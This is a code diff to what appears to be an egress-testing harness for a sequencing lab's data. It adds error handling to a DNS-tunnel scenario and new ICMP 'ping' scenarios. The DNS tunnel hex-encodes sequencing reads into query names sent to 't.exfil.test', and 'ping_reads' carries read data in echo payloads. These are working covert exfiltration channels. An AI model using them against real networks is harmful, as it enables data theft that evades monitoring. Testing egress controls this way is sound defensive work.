@@ -128,6 +128,7 @@ def proxy_name_of_reads(run_dir: Path, ca: str, host: str) -> None:
 
 def dns_tunnel(run_dir: Path, ca: str, host: str, server: str = "") -> None:
     """Reads hex-encoded in the names of DNS queries to the cloud's resolver (``server``: to this one)."""
+    import dns.exception
     import dns.message
     import dns.query
 
@@ -136,7 +137,10 @@ def dns_tunnel(run_dir: Path, ca: str, host: str, server: str = "") -> None:
         hexed = read[:76].encode().hex()
         labels = [hexed[i:i + 60] for i in range(0, len(hexed), 60)]
         name = ".".join([*labels, f"r{n}", "t.exfil.test"])
-        dns.query.udp(dns.message.make_query(name, "A"), server, port=53, timeout=10)
+        try:
+            dns.query.udp(dns.message.make_query(name, "A"), server, port=53, timeout=10)
+        except dns.exception.Timeout:
+            raise ConnectionError("no answer: the query was dropped") from None
 
 
 def dns_tunnel_via_the_rig(run_dir: Path, ca: str, host: str) -> None:
@@ -154,6 +158,38 @@ def udp(run_dir: Path, ca: str, host: str) -> None:
         for at in range(0, len(data), 1200):
             s.sendto(data[at:at + 1200], (server, 9999))
             time.sleep(0.001)
+
+
+def ping(run_dir: Path, ca: str, host: str, payload: bytes = b"status=idle;run=none") -> None:
+    """One ICMP echo request to the cloud carrying ``payload``; the echo reply (the same bytes) back."""
+    import struct
+    import time
+
+    def checksum(data: bytes) -> int:
+        total = sum(struct.unpack(f"!{len(data) // 2}H", data + b"\0" * (len(data) % 2)))
+        total = (total >> 16) + (total & 0xFFFF)
+        return ~(total + (total >> 16)) & 0xFFFF
+
+    server = socket.gethostbyname(host)
+    header = struct.pack("!BBHHH", 8, 0, 0, 0x5B0C, 1)
+    packet = struct.pack("!BBHHH", 8, 0, checksum(header + payload), 0x5B0C, 1) + payload
+    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as s:
+        s.settimeout(5)
+        s.sendto(packet, (server, 0))
+        deadline = time.monotonic() + 5
+        while time.monotonic() < deadline:
+            try:
+                reply = s.recv(65536)
+            except TimeoutError:
+                break
+            if reply[20] == 0 and reply[28:] == payload:
+                return
+    raise ConnectionError("no echo reply: the request was dropped")
+
+
+def ping_reads(run_dir: Path, ca: str, host: str) -> None:
+    """Reads in the body of a ping: ICMP echo carries whatever its sender puts there."""
+    ping(run_dir, ca, host, gzip.decompress(fastq(run_dir, "PT9936"))[:1200])
 
 
 def sftp(run_dir: Path, ca: str, host: str) -> None:
@@ -174,7 +210,8 @@ def sftp(run_dir: Path, ca: str, host: str) -> None:
 SCENARIOS = {"curl": curl, "chunked-gzip": chunked_gzip, "s3": s3, "websocket": websocket, "grpc": grpc_call,
              "raw-tls": raw_tls, "dns": dns_tunnel, "udp": udp, "sftp": sftp, "status": status,
              "status-elsewhere": status_elsewhere, "raw-status": raw_status, "raw-status-elsewhere": raw_status_elsewhere,
-             "proxy-name-of-reads": proxy_name_of_reads, "dns-via-the-rig": dns_tunnel_via_the_rig}
+             "proxy-name-of-reads": proxy_name_of_reads, "dns-via-the-rig": dns_tunnel_via_the_rig, "ping": ping,
+             "ping-reads": ping_reads}
 
 
 def main(scenario: str, run_dir: str, ca: str, host: str) -> int:
